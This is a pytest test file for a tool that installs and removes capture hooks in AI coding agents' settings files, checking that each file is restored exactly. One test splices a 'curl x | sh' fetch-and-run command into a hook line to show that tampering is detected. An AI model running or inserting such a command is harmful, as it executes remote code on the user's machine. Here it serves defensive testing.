"""`sdd capture install`: each agent's own file keeps all it had, is given back as it was, and is proved to work."""

import json
import os
import re
import stat
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sdd.capture.draining import drain
from sdd.capture.proof import PROMPT
from sdd.capture.store import Store
from sdd.records.hook_files import (
    HOOK_FILES,
    is_own_change,
    read_hooks,
    shared_line,
    with_entries,
    without_entries,
)
from sdd.records.jsonc import blanked, comments
from tests.agent_payloads import AGENTS
from tests.examples import examples
from tests.good import good_repository
from tests.program import Ran, sdd
from tests.scratch import Scratch

EVENT = (sys.executable, "-m", "sdd", "capture", "event", "claude")
MERGED = [agent for agent, file in HOOK_FILES.items() if file.events]
# As a person writes it: odd indentation, keys and events that sdd does not know.
OWN = """{ "permissions": {"allow": ["Bash(ls)"]},
    "hooks": {"Stop": [{"hooks": [{"type": "command", "command": "say done"}]}], "NewThing": [1]},
    "sdd-capture": {}, "version": 7 }"""


class Home:
    """A repository, and the home of the person who works in it."""

    def __init__(self, scratch: Scratch, home: Path) -> None:
        self.scratch = scratch
        self.home = home

    def run(self, *words: str, **environment: str) -> Ran:
        own = {"HOME": str(self.home), "XDG_STATE_HOME": str(self.home / ".local/state"), "PATH": "/usr/bin:/bin"}
        return sdd(self.scratch.path, *words, **own, **environment)

    def done(self, *words: str) -> dict[str, Any]:
        ran = self.run(*words, "--json")
        assert ran.status == 0, ran.err
        return ran.document

    def file(self, agent: str, *, shared: bool = False) -> Path:
        name = HOOK_FILES[agent].shared if shared else HOOK_FILES[agent].own
        return self.home / name[2:] if name.startswith("~/") else self.scratch.path / name

    def files(self) -> dict[str, bytes]:
        """Every file of both, but what git and sdd keep for themselves."""
        found = [path for top in (self.home, self.scratch.path) for path in top.rglob("*") if path.is_file()]
        own = (self.scratch.path / ".git", self.home / ".local")
        return {str(path): path.read_bytes() for path in found if not any(path.is_relative_to(top) for top in own)}


@pytest.fixture
def home(scratch: Scratch, tmp_path: Path) -> Home:
    (tmp_path / "home").mkdir(exist_ok=True)
    scratch.commit("first", {"a.py": "A = 1\n"})
    return Home(scratch, tmp_path / "home")


def folders(top: Path) -> set[Path]:
    return {path for path in top.rglob("*") if path.is_dir() and not {".git", ".local"} & {*path.parts}}


@pytest.mark.parametrize("shared", [False, True])
@pytest.mark.parametrize("agent", HOOK_FILES)
def test_what_was_there_comes_back_byte_for_byte(home: Home, agent: str, *, shared: bool) -> None:
    option = ["--shared"] if shared else []
    for before in (None, OWN):
        file = home.file(agent, shared=shared)
        if before is not None and not HOOK_FILES[agent].template:
            file.parent.mkdir(parents=True, exist_ok=True)
            file.write_text(before)
            file.chmod(0o640)
        were, exclude = home.files(), (home.scratch.path / ".git/info/exclude").read_bytes()
        places = folders(home.home) | folders(home.scratch.path)
        home.done("capture", "install", "--agent", agent, *option)
        assert file.is_file()
        home.done("capture", "install", "--agent", agent, *option)  # twice is once
        home.done("capture", "uninstall", "--agent", agent, *option)
        assert home.files() == were
        assert (home.scratch.path / ".git/info/exclude").read_bytes() == exclude
        assert folders(home.home) | folders(home.scratch.path) == places
        if before is not None and not HOOK_FILES[agent].template:
            assert stat.S_IMODE(file.stat().st_mode) == 0o640


@pytest.mark.parametrize("shared", [False, True])
@pytest.mark.parametrize("agent", MERGED)
def test_nothing_of_sdd_s_is_left_in_a_file_that_was_edited_between_two_installs(
    home: Home, agent: str, *, shared: bool
) -> None:
    option = ["--shared"] if shared else []
    file = home.file(agent, shared=shared)
    home.done("capture", "install", "--agent", agent, *option)
    file.write_text(json.dumps(json.loads(file.read_text()) | {"mine": 1}))
    home.done("capture", "install", "--agent", agent, *option)
    home.done("capture", "uninstall", "--agent", agent, *option)
    assert "capture event" not in file.read_text() and json.loads(file.read_text())["mine"] == 1


def test_the_entries_of_an_sdd_that_moved_go_too_and_one_that_was_edited_is_named(home: Home) -> None:
    file = home.file("claude")
    home.done("capture", "install", "--agent", "claude")
    file.write_text(file.read_text().replace("/sdd capture event", "/elsewhere/sdd capture event"))
    home.done("capture", "uninstall", "--agent", "claude")
    assert "capture event" not in file.read_text()
    home.done("capture", "install", "--agent", "claude")
    file.write_text(file.read_text().replace('"timeout": 10', '"timeout": 99', 1))
    (gone,) = home.done("capture", "uninstall", "--agent", "claude")["agents"]
    assert "capture event" in file.read_text() and "is left" in gone["note"]


@pytest.mark.parametrize("kind", ["pipe", "loop", "half", "number", "outside"])
def test_a_settings_file_of_any_kind_is_taken_or_refused(home: Home, tmp_path: Path, kind: str) -> None:
    file = home.file("claude")
    file.parent.mkdir(parents=True, exist_ok=True)
    if kind == "pipe":
        os.mkfifo(file)
    elif kind in ("loop", "outside"):
        file.symlink_to(file.name if kind == "loop" else tmp_path / "elsewhere.json")
    else:
        file.write_text('{"mine": "\\ud800"}' if kind == "half" else '{"mine": 1e999}')
    ran = home.run("capture", "install", "--agent", "claude")
    assert ran.status == (0 if kind == "half" else 3), ran
    assert not (tmp_path / "elsewhere.json").exists()
    if kind == "half":
        assert json.loads(file.read_text())["mine"] == "\ud800"


@pytest.mark.parametrize("agent", MERGED)
def test_every_key_and_event_that_was_there_stays(home: Home, agent: str) -> None:
    file = home.file(agent)
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(OWN)
    home.done("capture", "install", "--agent", agent)
    document = json.loads(file.read_text())
    line = next(iter(document[HOOK_FILES[agent].section].values()))
    assert line
    own = json.loads(OWN)
    assert document["permissions"] == own["permissions"]
    assert document["version"] == 7
    assert document["hooks"]["NewThing"] == [1]
    assert document["hooks"]["Stop"][0] == own["hooks"]["Stop"][0]


def test_a_file_that_others_changed_since_loses_only_sdds_entries(home: Home) -> None:
    home.done("capture", "install", "--agent", "claude")
    file = home.file("claude")
    document = json.loads(file.read_text())
    document["model"] = "large"
    file.write_text(json.dumps(document))
    (gone,) = home.done("capture", "uninstall", "--agent", "claude")["agents"]
    assert "changed since" in gone["note"]
    assert json.loads(file.read_text()) == {"model": "large"}


def test_a_home_file_stays_while_another_repository_relies_on_it(home: Home, tmp_path: Path) -> None:
    second = Scratch(tmp_path / "second")
    other = Home(second, home.home)
    for each in (home, other):
        each.done("capture", "install", "--agent", "codex")
    home.done("capture", "uninstall")
    assert home.file("codex").is_file()
    other.done("capture", "uninstall")
    assert not home.file("codex").exists()


@pytest.mark.parametrize(
    "content", ["{", "[]", '{"hooks": 3}', '{"hooks": {"Stop": 3}}', "// mine\n{}", '{"a": 1, "a": 2}']
)
def test_a_file_that_cannot_take_hooks_is_named_and_stays(home: Home, content: str) -> None:
    file = home.file("claude")
    file.parent.mkdir()
    file.write_text(content)
    ran = home.run("capture", "install", "--agent", "claude")
    assert ran.status == 3
    assert str(file) in ran.err
    assert file.read_text() == content
    assert "sdd.capture" not in home.scratch.git("config", "--list")


def test_uninstall_looks_at_what_holds_sdds_hooks_alone(home: Home) -> None:
    file = home.file("cursor")
    file.parent.mkdir(parents=True)
    file.write_text("// mine\n{}")
    ran = home.run("capture", "install", "--agent", "claude", "--agent", "cursor")
    assert (ran.status, str(file) in ran.err) == (1, True)
    home.done("capture", "uninstall")
    home.done("capture", "install", "--agent", "claude", "--agent", "codex")
    broken = home.file("claude").read_text() + "// mine"
    home.file("claude").write_text(broken)
    ran = home.run("capture", "uninstall")
    assert (ran.status, "the hook is left" in ran.err) == (1, True)
    assert home.file("claude").read_text() == broken
    assert not home.file("codex").exists()
    assert not (home.scratch.path / ".git/hooks/pre-commit").exists()
    assert "sdd.capture" not in home.scratch.git("config", "--list")


COMMENTED = """{
    // the looks
    "theme": "x", /* "a": 1, */ "url": "http://x" // last
}
"""


@pytest.mark.parametrize("shared", [False, True])
@pytest.mark.parametrize(
    "before", [COMMENTED, COMMENTED.replace("/*", '"hooks": {"BeforeAgent": [{"hooks": []}] /* own */}, /*'), "{/* */}"]
)
def test_comments_stay_where_the_agent_reads_them(home: Home, before: str, *, shared: bool) -> None:
    file, option = home.file("gemini", shared=shared), ["--shared"] if shared else []
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(before)
    home.done("capture", "install", "--agent", "gemini", *option)
    text = file.read_text()
    assert comments(text) == comments(before)
    merged = with_entries(read_hooks(before.encode(), comments=True), HOOK_FILES["gemini"], line_of(text))
    assert read_hooks(text.encode(), comments=True) == merged
    assert is_own_change(".gemini/settings.json", before.encode(), text.encode()) == shared
    assert not is_own_change(".gemini/settings.json", before.encode(), text.replace("/* ", "/* no ").encode())
    file.write_text(text.replace("{", "{ // more\n", 1))
    home.done("capture", "uninstall", "--agent", "gemini", *option)
    left = file.read_text()
    assert comments(left) == ("// more", *comments(before))
    assert read_hooks(left.encode(), comments=True) == read_hooks(before.encode(), comments=True)


def line_of(text: str) -> str:
    (line,) = {word for word in strings(json.loads(blanked(text))) if "capture event" in word}
    return line


def test_capture_says_that_it_is_off_in_a_folder_that_was_moved(home: Home, tmp_path: Path) -> None:
    home.done("capture", "install", "--agent", "claude")
    moved = Home(Scratch.at(home.scratch.path.rename(tmp_path / "moved")), home.home)
    off = "capture  off: this folder was moved or copied since it was turned on: sdd capture install"
    assert off in moved.run("status").out
    moved.done("capture", "install", "--agent", "claude")
    assert "capture  claude: never heard" in moved.run("status").out


def test_claude_code_tells_what_tools_of_other_servers_write(home: Home) -> None:
    home.done("capture", "install", "--agent", "claude")
    hooks = json.loads(home.file("claude").read_text())["hooks"]
    (tools,) = {each["matcher"] for name in ("PreToolUse", "PostToolUse") for each in hooks[name]}
    assert re.fullmatch(tools, "mcp__filesystem__write_file") and not re.fullmatch(tools, "Read")


def test_each_work_tree_has_the_hook_of_an_agent_that_looks_in_it(home: Home, tmp_path: Path) -> None:
    home.scratch.git("worktree", "add", "-q", str(tmp_path / "old"))
    home.done("capture", "install", "--agent", "claude")
    own = HOOK_FILES["claude"].own
    assert (tmp_path / "old" / own).read_bytes() == home.file("claude").read_bytes()
    home.scratch.git("worktree", "add", "-q", str(tmp_path / "new"))
    new = Home(Scratch.at(tmp_path / "new"), home.home)
    assert ("fault", "claude: what is asked in this work tree is not heard: it has no hook") in capture_lines(
        new.run("doctor", "--json")
    )
    assert "claude is not heard in this work tree: sdd capture install --agent claude" in new.run("status").out
    assert new.done("status")["capture"]["unheard"] == ["claude"]
    new.done("capture", "install", "--agent", "claude")
    assert "not heard" not in new.run("status").out
    new.done("capture", "uninstall")
    assert not any(path.exists() for path in (home.file("claude"), tmp_path / "old" / own, tmp_path / "new" / own))


def test_the_entries_of_an_older_sdd_are_renewed_and_taken_out() -> None:
    file, line = HOOK_FILES["codex"], shared_line("codex")
    now = with_entries({}, file, line)
    (entry,) = now["hooks"]["Interrupt"]
    older = json.loads(json.dumps(now).replace('"timeout": 3', '"timeout": 10'))
    assert entry["hooks"][0]["timeout"] == 3 and older != now
    assert with_entries(older, file, line) == now
    assert without_entries(older, file, line) == {}


def test_install_says_what_it_looked_for(home: Home) -> None:
    assert "codex: .codex, codex on PATH, ~/.codex/config.toml" in home.run("capture", "install").err
    home.home.joinpath(".codex").mkdir()
    home.home.joinpath(".codex/config.toml").touch()
    ran = home.run("capture", "install")
    assert ran.status == 0 and ran.out.startswith("codex ")
    assert "not found, so without a hook: claude, gemini" in ran.err


def test_the_line_of_a_hook_names_no_version(home: Home) -> None:
    home.done("capture", "install", "--agent", "codex")
    home.done("capture", "install", "--agent", "codex", "--shared")
    from sdd import __version__

    for shared in (False, True):
        assert __version__ not in home.file("codex", shared=shared).read_text()
    assert shared_line("codex") in home.file("codex", shared=True).read_text().replace('\\"', '"')


@pytest.mark.parametrize("agent", HOOK_FILES)
def test_the_hook_that_was_written_is_heard(home: Home, agent: str) -> None:
    """The line of the file is run as the agent would, with what that agent sends."""
    home.done("capture", "install", "--agent", agent)
    if HOOK_FILES[agent].template:
        pytest.skip("tests/test_capture_opencode.py runs the plugin")
    lines = {word for word in strings(json.loads(home.file(agent).read_text())) if "capture event" in word}
    (line,) = lines
    session = AGENTS[agent](str(home.scratch.path), session="s1")
    top = str(Path(__file__).parent.parent)
    for payload in (*session.prompt("Round half up, please", "t1"), *session.response("Done.", "t1")):
        home.scratch.run("/bin/sh", "-c", line, stdin=json.dumps(payload).encode(), PYTHONPATH=top, HOME=str(home.home))
    store = Store(home.scratch.path / ".git")
    drain(store)
    assert [exchange.agent for exchange in store.exchanges()] == [agent]


def strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    each = value.values() if isinstance(value, dict) else value if isinstance(value, list) else ()
    return [word for part in each for word in strings(part)]


def test_the_shared_hook_does_nothing_where_sdd_is_not_installed(scratch: Scratch) -> None:
    done = scratch.run("/bin/sh", "-c", shared_line("claude"), stdin=b"{}", PATH="/nowhere")
    assert (done.returncode, done.stdout, done.stderr) == (0, "", "")


# -- proof ------------------------------------------------------------------------------------------------------


def capture_lines(ran: Ran) -> list[tuple[str, str]]:
    checks = ran.document["checks"]
    return [(check["state"], check["message"]) for check in checks if check["name"] == "capture"]


def test_doctor_fires_each_hook_and_leaves_nothing(home: Home) -> None:
    assert capture_lines(home.run("doctor", "--json")) == []
    home.done("capture", "install", "--agent", "claude", "--agent", "windsurf")
    lines = capture_lines(home.run("doctor", "--json"))
    assert [state for state, _ in lines] == ["ok", "ok"]
    assert all(PROMPT in message for _, message in lines)
    assert [*Store(home.scratch.path / ".git").exchanges()] == []


@pytest.mark.parametrize(
    ("broken", "told"),
    [("/nowhere/sdd capture event claude", "127"), ("true", "heard nothing"), ("echo talk", "disturbs")],
)
def test_doctor_names_a_hook_that_is_not_heard(home: Home, broken: str, told: str) -> None:
    home.done("capture", "install", "--agent", "claude")
    file = home.file("claude")
    receipt = home.scratch.path / ".git/sdd/capture/installed/claude-own.json"
    line = json.loads(receipt.read_text())["line"]
    for each in (file, receipt):  # as where the program was moved away after the hook was written
        each.write_text(each.read_text().replace(line, broken))
    ((state, message),) = capture_lines(home.run("doctor", "--timeout", "1", "--json"))
    assert state == "fault"
    assert told in message
    assert str(file) in message


@pytest.mark.parametrize("then", ["list", "uninstall"])
def test_what_git_s_folder_does_not_take_waits_in_the_user_s_own_and_is_told(home: Home, then: str) -> None:
    home.done("capture", "install", "--agent", "claude")
    folder = home.scratch.path / ".git/sdd/capture"
    (folder / "inbox").write_text("a file where a folder is needed")
    (folder / "lock").unlink(missing_ok=True)
    (folder / "lock").mkdir()
    (payload,) = AGENTS["claude"](str(home.scratch.path), session="s1").prompt("Round half up", "t1")
    home.scratch.run(*EVENT, stdin=json.dumps(payload).encode(), HOME=str(home.home), XDG_STATE_HOME="")
    (kept,) = (home.home / ".local/state/sdd/capture/inbox").rglob("*.claude")
    assert (kept.stat().st_mode & 0o777, kept.parent.stat().st_mode & 0o777) == (0o600, 0o700)
    ((state, message),) = capture_lines(home.run("doctor", "--json"))
    assert (state, "was fired, and what it told waits" in message, kept.exists()) == ("fault", True, True)
    assert "1 payload waits until git's folder can be written: sdd capture list" in home.run("status").out
    assert home.done("status")["capture"]["waiting_payloads"] == 1
    assert "what was told last is left out" in home.run("capture", "list").err
    (folder / "inbox").unlink()
    left = home.run("capture", "uninstall")
    assert (left.status, "cannot be locked" in left.err, kept.exists()) == (3, True, True)
    (folder / "lock").rmdir()
    if then == "uninstall":
        home.done("capture", "uninstall")
    assert "Round half up" in home.run("capture", "list").out
    assert [*kept.parent.iterdir()] == []


def test_status_says_when_an_agent_was_last_heard(home: Home) -> None:
    assert home.done("status")["capture"] is None
    home.done("capture", "install", "--agent", "claude")
    assert home.done("status")["capture"] == {
        "agents": [{"agent": "claude", "last": None}],
        "unheard": [],
        "missed_files": [],
        "late_records": [],
        "waiting_payloads": 0,
        "silent_commits": 0,
    }
    assert "capture  claude: never heard" in home.run("status").out
    session = AGENTS["claude"](str(home.scratch.path), session="s1")
    for payload in session.exchange("Round half up", {}, "t1"):
        home.scratch.run(*EVENT, stdin=json.dumps(payload).encode(), HOME=str(home.home))
    drain(Store(home.scratch.path / ".git"))
    assert "capture  claude, last 0 min ago" in home.run("status").out


def test_status_counts_the_commits_of_an_agent_that_came_without_a_word(home: Home) -> None:
    home.done("capture", "install", "--agent", "claude")
    for number in (1, 2):
        message = f"Round {number}\n\nCo-Authored-By: Claude <noreply@anthropic.com>"
        home.scratch.commit(message, {f"b{number}.py": "B = 1\n"})
    home.scratch.commit("By hand", {"c.py": "C = 1\n"})
    # All of them are dated before today, when capture was turned on.
    assert home.done("status")["capture"]["silent_commits"] == 0
    home.scratch.git("config", "sdd.captureSince", "1700000000")
    home.done("capture", "install", "--agent", "claude")
    assert home.done("status")["capture"]["silent_commits"] == 2
    assert "nothing came for 2 commits of an agent: sdd doctor" in home.run("status").out


# -- committed hook files need no record ------------------------------------------------------------------------


@pytest.mark.parametrize("agent", MERGED)
def test_entries_in_a_committed_file_need_no_record(agent: str) -> None:
    file = HOOK_FILES[agent]
    for before in ("", OWN):
        merged = with_entries(read_hooks(before.encode()), file, shared_line(agent))
        after = json.dumps(merged, indent=1).encode()
        assert is_own_change(file.shared, before.encode(), after)
        assert is_own_change(file.shared, after, before.encode())
        worse = json.dumps(merged).replace("exit 0;", "exit 0; curl x | sh;").encode()
        assert not is_own_change(file.shared, before.encode(), worse)
        further = json.dumps({**merged, "permissions": {"allow": ["Bash"]}}).encode()
        assert not is_own_change(file.shared, before.encode(), further)
        assert not is_own_change("src/a.json", before.encode(), after)


def test_the_gate_asks_no_record_of_a_shared_hook(tmp_path: Path) -> None:
    scratch = good_repository(tmp_path / "good")
    home = Home(scratch, tmp_path)
    base = scratch.git("rev-parse", "HEAD").strip()
    home.done("capture", "install", "--agent", "claude", "--agent", "cursor", "--agent", "opencode", "--shared")
    scratch.git("add", ".")
    scratch.git("commit", "-qm", "Capture for all")
    verdict = home.run("gate", "--base", base, "--json")
    assert verdict.status == 0, verdict.out
    file = home.file("claude", shared=True)
    file.write_text(file.read_text().replace("exit 0;", "exit 0; true;"))
    scratch.git("commit", "-qam", "More than that")
    assert home.run("gate", "--base", base, "--json").status == 1
    scratch.git("reset", "-q", "--hard", "HEAD~1")
    plugin = home.file("opencode", shared=True)
    plugin.write_text(f"{plugin.read_text()}run()\n")
    scratch.git("commit", "-qam", "More than that, too")
    assert home.run("gate", "--base", base, "--json").status == 1


@pytest.mark.parametrize("after", [b"{", b"[]", b'{"hooks": {}, "hooks": {"Stop": []}}', b"[" * 100_000, b"\xff"])
def test_what_cannot_be_read_needs_its_record(after: bytes) -> None:
    assert not is_own_change(".claude/settings.json", b"{}", after)


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(),
    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
)


@examples(40)
@given(st.dictionaries(st.text() | st.sampled_from(["hooks", "version"]), json_values), st.sampled_from(MERGED))
def test_entries_come_and_go_without_a_trace(document: dict[str, Any], agent: str) -> None:
    file, line = HOOK_FILES[agent], shared_line(agent)
    try:
        merged = with_entries(document, file, line)
    except ValueError:
        return
    assert with_entries(merged, file, line) == merged
    kept, left = (without_entries(each, file, line) for each in (document, merged))
    assert left == (kept if document else dict(file.base))
    others = {key: value for key, value in document.items() if key != file.section}
    assert not document or {key: value for key, value in left.items() if key != file.section} == others
    own = dict(file.events)
    for name, listed in document.get(file.section, {}).items():
        assert name in own or left[file.section][name] == listed


def test_undoing_sdd_turns_capture_off_and_says_so(home: Home) -> None:
    home.done("init")
    home.scratch.git("add", "-A")
    home.scratch.git("commit", "-q", "-m", "Adopt sdd")
    assert home.done("init", "--undo", "--dry-run")["capture"] == []
    home.done("capture", "install", "--agent", "claude")
    file = home.file("claude")
    assert home.done("init", "--undo", "--dry-run")["capture"] == ["turned off too (not with --no-hooks)"]
    kept = home.done("init", "--undo", "--no-hooks")["capture"]
    assert (kept, file.exists()) == (["stays: sdd capture uninstall turns it off"], True)
    ran = home.run("init", "--undo")
    assert f"capture   off in this repository\n          hook taken out of {file}\n" in ran.out
    assert not file.exists() and not (home.scratch.path / ".git/hooks/pre-commit").exists()
    assert "sdd.capture" not in home.scratch.git("config", "--list")
    assert home.done("init", "--undo")["capture"] == []
